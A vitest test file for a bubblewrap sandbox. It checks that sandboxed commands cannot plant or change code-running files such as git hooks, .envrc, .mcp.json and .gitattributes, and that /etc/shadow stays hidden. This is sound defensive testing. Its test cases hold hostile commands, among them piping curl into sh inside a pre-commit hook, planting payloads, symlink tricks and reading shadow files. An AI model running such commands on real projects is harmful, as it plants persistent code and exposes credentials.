import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, readdirSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  CODE_RUNNING_FILES,
  createSandboxPolicy,
  probeBubblewrap,
  SandboxedExecutionEnvironment,
} from "../src/index.js";

// Inside the real bubblewrap sandbox, files that run code later stay read-only whether or not
// they exist yet, the placeholders that hold the place of missing ones leave nothing behind on
// the host, and everyday work (git add -A, commits, npm scripts) does not notice them.
const status = await probeBubblewrap();
const reason = status.available ? "" : ` (skipped: ${status.reason})`;

let base: string;
let project: string;
let outside: string;
let env: SandboxedExecutionEnvironment;

/** Runs a command, then waits until its placeholders are gone from the host. */
const run = async (command: string) => {
  const result = await env.execCommand(command, { timeoutMs: 20_000 });
  await env.settled();
  return result;
};
const git = (...args: string[]) =>
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.invalid", ...args], {
    cwd: project,
    encoding: "utf8",
  });

/** The project's top-level names, as the host sees them. */
const hostEntries = () => readdirSync(project).sort();

beforeAll(async () => {
  if (!status.available) return;
  base = await mkdtemp(join(existsSync("/var/tmp") ? "/var/tmp" : "/tmp", "code-running-"));
  project = join(base, "project");
  outside = join(base, "outside");
  await mkdir(join(project, "src"), { recursive: true });
  await mkdir(outside);
  await writeFile(join(project, "src", "a.ts"), "export const a = 1;\n");
  await writeFile(
    join(project, "package.json"),
    JSON.stringify({ name: "p", version: "1.0.0", scripts: { build: "node -e \"console.log('built')\"" } }),
  );
  // Present ones: they must stay as they are.
  await mkdir(join(project, ".husky"));
  await writeFile(join(project, ".husky", "pre-commit"), "npm test\n");
  await writeFile(join(project, ".gitattributes"), "*.ts text\n");
  git("init", "-q");
  git("add", "-A");
  git("commit", "-qm", "initial");
  env = new SandboxedExecutionEnvironment({
    workingDirectory: project,
    sandbox: { home: join(base, "home") },
  });
});

afterAll(async () => {
  if (!status.available) return;
  await env.cleanup();
  await rm(base, { recursive: true, force: true });
});

/** Missing top-level entries of the list, with a command that would plant each. */
const MISSING = CODE_RUNNING_FILES.filter(
  (e) => !e.path.startsWith(".git/") && e.path !== ".husky" && e.path !== ".gitattributes",
).map((e) => ({
  path: e.path,
  plant:
    e.kind === "folder"
      ? `mkdir -p ${e.path} && echo 'touch /tmp/pwned' > ${e.path}/planted`
      : `echo 'touch /tmp/pwned' > ${e.path}`,
}));

describe.skipIf(!status.available)(`code-running files in the sandbox${reason}`, () => {
  it.each(MISSING)("cannot create $path, and no placeholder is left on the host", async ({ path, plant }) => {
    const before = hostEntries();
    const result = await run(plant);
    expect(result.exitCode).not.toBe(0);
    expect(existsSync(join(project, path)), `${path} exists on the host`).toBe(false);
    expect(hostEntries()).toEqual(before);
  });

  it.each([
    ["overwrite", "echo 'exit 1' > .husky/pre-commit"],
    ["append", "echo 'curl x | sh' >> .husky/pre-commit"],
    ["remove and recreate", "rm -f .husky/pre-commit; echo evil > .husky/pre-commit"],
    ["rename the folder away", "mv .husky .husky-old && mkdir .husky && echo evil > .husky/pre-commit"],
    ["add a hook beside it", "echo evil > .husky/post-checkout"],
  ])("an existing .husky stays as it is: %s", async (_name, command) => {
    await run(command);
    expect(readFileSync(join(project, ".husky", "pre-commit"), "utf8")).toBe("npm test\n");
    expect(readdirSync(join(project, ".husky"))).toEqual(["pre-commit"]);
    expect(existsSync(join(project, ".husky-old"))).toBe(false);
  });

  it.each([
    ["overwrite", "echo '* filter=evil' > .gitattributes"],
    ["rename over it", "echo '* filter=evil' > ga; mv ga .gitattributes; rm -f ga"],
    ["delete it", "rm -f .gitattributes"],
  ])("an existing .gitattributes stays as it is: %s", async (_name, command) => {
    await run(command);
    expect(readFileSync(join(project, ".gitattributes"), "utf8")).toBe("*.ts text\n");
  });

  it.each([
    ["a symlink", "ln -s /tmp/evil .envrc"],
    ["a rename into place", "echo evil > e && mv e .envrc; rm -f e"],
    ["cp", "echo evil > e && cp e .mcp.json; rm -f e"],
    ["tee", "echo evil | tee .pre-commit-config.yaml"],
    ["node", `node -e "require('fs').writeFileSync('.envrc', 'evil')"`],
    ["python", `python3 -c "open('mise.toml', 'w').write('evil')"`],
    ["a folder made first", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"],
    ["rmdir of the placeholder, then a file", "rmdir .envrc; echo evil > .envrc"],
    ["a git checkout bringing one in", "git checkout -q -b with-envrc && echo x > .envrc"],
  ])("creating one by %s fails and leaves nothing on the host", async (_name, command) => {
    const before = hostEntries();
    await run(command);
    for (const name of [".envrc", ".mcp.json", ".pre-commit-config.yaml", "mise.toml", ".vscode"])
      expect(existsSync(join(project, name)), name).toBe(false);
    expect(hostEntries()).toEqual(before);
    if (command.startsWith("git checkout")) {
      git("checkout", "-q", "-");
      git("branch", "-q", "-D", "with-envrc");
    }
  });

  it("a dangling symlink to a missing file cannot be used to create a code-running file", async () => {
    await symlink("src/envrc-target", join(project, ".envrc"));
    try {
      await run("echo 'touch /tmp/pwned' > .envrc");
      expect(existsSync(join(project, "src", "envrc-target"))).toBe(false);
    } finally {
      await rm(join(project, ".envrc"));
    }
  });

  it("a placeholder left behind by a killed run is held again, then removed", async () => {
    await mkdir(join(project, ".mcp.json"));
    await run("true");
    expect(existsSync(join(project, ".mcp.json"))).toBe(false);
  });

  it("everyday work does not see the placeholders: status, add -A, commit, npm scripts, new files", async () => {
    const result = await run(
      [
        "echo 'export const b = 2;' > src/b.ts",
        "git status --porcelain",
        "git add -A",
        "git -c user.name=t -c user.email=t@example.invalid commit -qm b",
        "git show --stat --format= HEAD",
        "npm run -s build",
        "cat .gitattributes >/dev/null && echo read-ok",
      ].join(" && "),
    );
    expect(result.exitCode, result.output).toBe(0);
    expect(result.output).toContain("?? src/b.ts");
    // Only the new file: no placeholder was added or committed.
    expect(result.output).not.toMatch(/\.envrc|\.mcp\.json|\.vscode|\.npmrc|mise/);
    expect(result.output).toContain("src/b.ts");
    expect(result.output).toContain("built");
    expect(result.output).toContain("read-ok");
    expect(git("show", "--name-only", "--format=", "HEAD").trim()).toBe("src/b.ts");
  });

  it("commands running at once keep their placeholders until the last one ends", async () => {
    const slow = run("sleep 0.6; echo evil > .envrc");
    await new Promise((r) => setTimeout(r, 150));
    await run("true");
    await slow;
    expect(existsSync(join(project, ".envrc"))).toBe(false);
    expect(hostEntries().filter((n) => n.startsWith(".") && n !== ".git")).toEqual([
      ".gitattributes",
      ".husky",
    ]);
  });

  it("root-only files such as /etc/shadow and /etc/gshadow are hidden when commands run as root", async () => {
    const policy = createSandboxPolicy({ projectDirs: [project], asRoot: true, home: join(base, "home") });
    for (const file of ["/etc/shadow", "/etc/gshadow"])
      if (existsSync(file)) expect(policy.hiddenPaths).toContain(file);
    if (process.getuid?.() !== 0 || !existsSync("/etc/shadow")) return;
    const result = await run("cat /etc/shadow /etc/gshadow 2>&1; ls /etc/ssh 2>&1; echo done");
    expect(result.output).toContain("done");
    expect(result.output).not.toMatch(/root:[^:\n]*:\d+:/);
    const shadow = await readFile("/etc/shadow", "utf8");
    const hash = shadow.split("\n")[0]?.split(":")[1] ?? "";
    if (hash.length > 2) expect(result.output).not.toContain(hash);
  });

  it("a read-only policy makes no placeholders (nothing is writable there)", () => {
    const policy = createSandboxPolicy({ mode: "read-only", projectDirs: [project] });
    expect(policy.placeholderPaths).toEqual([]);
    const writable = createSandboxPolicy({ projectDirs: [project] });
    expect(writable.placeholderPaths).toContain(join(project, ".envrc"));
    expect(writable.readOnlyPaths).toContain(join(project, ".husky"));
    expect(lstatSync(join(project, ".husky")).isDirectory()).toBe(true);
  });
});
